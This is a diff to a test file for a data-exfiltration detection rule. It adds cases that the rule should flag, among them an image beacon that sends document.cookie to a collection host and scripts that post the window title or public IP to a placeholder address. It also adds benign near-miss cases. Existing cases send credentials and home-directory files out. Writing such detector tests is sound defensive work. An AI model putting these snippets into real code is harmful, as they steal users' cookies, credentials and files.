@@ -94,6 +94,9 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
     ["distro and architecture posted", `info = {"os": distro.name(), "arch": platform.architecture()}\nrequests.post("http://203.0.113.9/i", json=info)`, "data_exfiltration.http.send_sensitive"],
     ["home directory walked and posted", `for root, _, files in os.walk(os.path.expanduser("~/Documents")):\n    for f in files:\n        session.post("https://203.0.113.9/u", files={"f": open(os.path.join(root, f), "rb")})`, "data_exfiltration.http.send_sensitive"],
     ["Telegram bot upload", `bot.send_document(chat_id, open(os.path.expanduser("~/.aws/credentials"), "rb"))`, "data_exfiltration.http.send_sensitive"],
+    ["image beacon with cookies", `new Image().src = "https://collect.example.net/c?d=" + encodeURIComponent(document.cookie);`, "data_exfiltration.http.send_sensitive"],
+    ["window title posted", `title = win32gui.GetWindowText(win32gui.GetForegroundWindow())\nrequests.post("http://203.0.113.9/w", data={"w": title})`, "data_exfiltration.http.send_sensitive"],
+    ["public IP reported", `ip = requests.get("https://api.ipify.org").text\nrequests.post("http://203.0.113.9/ip", data={"ip": ip})`, "data_exfiltration.http.send_sensitive"],
     ["sendBeacon with cookies", `navigator.sendBeacon("https://collect.example.net/c", document.cookie)`, "data_exfiltration.http.send_sensitive"],
   ])("%s", (_name, text, rule) => {
     expect(rules(text)).toContain(rule);
@@ -103,6 +106,8 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
     ["a user-agent check", `if (navigator.userAgent.includes("Firefox")) { useFallback(); }`],
     ["a responsive layout", `const narrow = screen.width < 600;\nlayout(narrow);`],
     ["one header read", `ua = request.headers.get("User-Agent")\nif "bot" in ua: abort(403)`],
+    ["a preloaded image", `const img = new Image();\nimg.src = "/static/logo.png";`],
+    ["a jQuery form post", `$.post("/api/comments", { text: $("#comment").val() });`],
     ["posting form data to an API", `resp = client.post("https://api.example.com/v1/orders", json={"sku": sku, "qty": 2})`],
   ])("near miss: %s", (_name, text) => {
     expect(rules(text)).toEqual([]);
